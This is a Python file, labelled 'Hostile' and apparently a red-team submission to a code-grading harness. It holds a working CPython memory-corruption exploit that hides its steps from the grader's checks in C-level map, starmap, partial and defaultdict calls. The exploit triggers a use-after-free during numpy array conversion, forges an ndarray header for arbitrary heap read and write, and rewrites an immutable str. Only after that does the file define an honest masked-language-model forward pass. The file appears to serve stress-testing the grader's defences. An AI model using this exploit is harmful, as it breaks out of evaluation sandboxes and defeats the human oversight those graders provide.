"""Hostile: classes are never relayed, and a class called by CPython's C code (map, starmap) hands
back an object no check sees. A typing.NamedTuple whose field default is read at the top of a class
body's assignment keeps list.clear itself (no relay); itertools.starmap(Parts, [()]) builds Parts()
in C, and chain.from_iterable over it yields the raw list.clear, unseen. map(map, CLEARS, [holder])
builds map(list.clear, holder) in C; map(functools.partial, [list], [CHAIN]) builds a raw
partial(list, CHAIN) and map(collections.defaultdict, ...) a defaultdict with it as factory. Every
combinator is a class (map, itertools.chain, functools.partial, collections.defaultdict, bytes, list),
so nothing the file reads is a relay. Round 20's trigger unchanged: the missing key calls list(CHAIN):
list.clear empties the list numpy walks and eight bytes objects of 800 bytes, made by bytes(a list)
in C, take its freed block (kept alive by the list the factory returns). Read-back as in
hostile_class_body_names_unrelayed_defaultdict_factory_raw_memory.py: reads an int's header and
rewrites an immutable str, then answers honestly."""

import collections
import collections.abc
import functools
import itertools
import math
import typing

import numpy as np
import torch


def words(*values):
    return b"".join(int(v).to_bytes(8, "little") for v in values)


class Plain(torch.Tensor):  # an honest-looking tensor subclass: no special method, one slot
    __slots__ = ("x",)


victim = np.zeros(64, dtype=np.uint8)  # a real array, whose header the fake array covers
FLAGS = 0x1 | 0x2 | 0x100 | 0x400  # C and F contiguous, aligned, writeable
shape = words(12, 8)
# data, nd, dims, strides, base, descr, flags, ...: twelve int64 words over victim's header
fake_array = words(1 << 40, id(np.ndarray), id(victim), 1, id(shape) + 32, id(shape) + 40, 0, id(np.dtype(np.int64)), FLAGS, 0, 0, 0)
instance_dict = {"__torch_function__": property}  # a plain dict: the fake's __dict__
# CPython 3.11 managed dict: values pointer (0) and dict pointer before the GC header (two zero words);
# then refcount, type, THPVariable's cdata and hooks (unread), and the slot x at offset 48.
fake = words(0, id(instance_dict), 0, 0, 1 << 40, id(Plain), 0, 0, 0, 0, id(fake_array) + 32)
fake_at = id(fake) + 32 + 32
pointers = int.from_bytes(words(*[fake_at] * 96)[:767], "little")  # 33 + 767 bytes: the 800 of 100 items
spray = list(pointers.to_bytes(767, "little"))  # bytes(spray) makes a new 800-byte object each time
holder = []  # the list numpy walks, once made


class Parts(typing.NamedTuple):
    clear: object = list.clear  # the top of a class body's assignment: read with no relay, kept raw


# All lazy, all C: no relay and no function of the file's is ever called below.
clears = itertools.chain.from_iterable(itertools.starmap(Parts, [()]))  # yields list.clear itself
sources = itertools.chain(map(map, clears, [holder]), [map(bytes, [spray] * 8)])
chain = itertools.chain.from_iterable(sources)  # list.clear(items), then eight fresh 800-byte bytes
factories = map(functools.partial, [list], [chain])  # partial(list, chain), made in C
table = next(map(collections.defaultdict, factories, [{"y": 1}]))  # a dict: checked as one, factory unseen

row = collections.abc.Mapping.items({"x": 1})  # an ItemsView over a plain dict: yields ("x", 1)
key = collections.abc.Mapping.items(table)  # "x" is missing there
counter = collections.Counter({"a": (row, 0), "b": (key, 1)})  # Counter.__repr__ sorts these tuples
items = [1.0, 2.0, 3.0, counter] + [0.0] * 96
holder.append(items)
found = None
try:
    np.array(items, dtype=str)
except AttributeError as error:  # the grader's __array__ calling .copy() on the property torch returned
    found = error.obj.fdel[0]
header = found.x  # the fake Plain's slot: a fake int64 ndarray over victim's header; [2] is its data pointer
own_data = int(header[2])


def read(at, n):
    header[2] = at
    data = bytes(victim[:n].tolist())
    header[2] = own_data
    return data


def write(at, data):
    header[2] = at
    victim[: len(data)] = np.array(list(data), dtype=np.uint8)
    header[2] = own_data


number = 12345678901234567
assert int.from_bytes(read(id(number) + 8, 8), "little") == id(int)  # ob_type read from the heap
word = "immutable"
write(id(word) + 48, b"IMMUTABLE")  # an immutable str rewritten in place
assert word == "IMMUTABLE", word
print("raw memory: read the heap and rewrote an immutable str")


def layer_norm(x):
    mean = x.mean(dim=-1, keepdim=True)
    var = ((x - mean) ** 2).mean(dim=-1, keepdim=True)
    return (x - mean) / torch.sqrt(var + 1e-5)


def gelu(x):
    return 0.5 * x * (1.0 + torch.tanh(math.sqrt(2.0 / math.pi) * (x + 0.044715 * x**3)))


def softmax(scores):
    e = torch.exp(scores - scores.amax(dim=-1, keepdim=True))
    return e / e.sum(dim=-1, keepdim=True)


def attention(x, w_q, w_k, w_v, w_o, num_heads):
    n, t, d = x.shape
    dh = d // num_heads
    q, k, v = ((x @ w).view(n, t, num_heads, dh).transpose(1, 2) for w in (w_q, w_k, w_v))
    out = softmax(q @ k.transpose(-2, -1) / math.sqrt(dh)) @ v
    return out.transpose(1, 2).reshape(n, t, d) @ w_o


def mlm_forward_tied(input_ids, w_emb, pos_embed, blocks_weights, mask_indicator, num_heads):
    x = w_emb[input_ids] + pos_embed
    for w_q, w_k, w_v, w_o, w_mlp1, w_mlp2 in blocks_weights:
        x = x + attention(layer_norm(x), w_q, w_k, w_v, w_o, num_heads)
        x = x + gelu(layer_norm(x) @ w_mlp1) @ w_mlp2
    return x[mask_indicator > 0.5] @ w_emb.T
